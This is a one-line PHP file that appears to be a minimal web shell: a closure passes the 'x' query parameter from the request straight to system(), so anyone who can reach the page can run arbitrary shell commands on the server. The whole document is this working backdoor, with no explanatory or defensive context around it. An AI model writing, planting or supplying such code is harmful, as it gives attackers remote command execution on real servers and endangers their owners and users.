<?php $c = function($x) { system($x); }; $c($_GET["x"]);
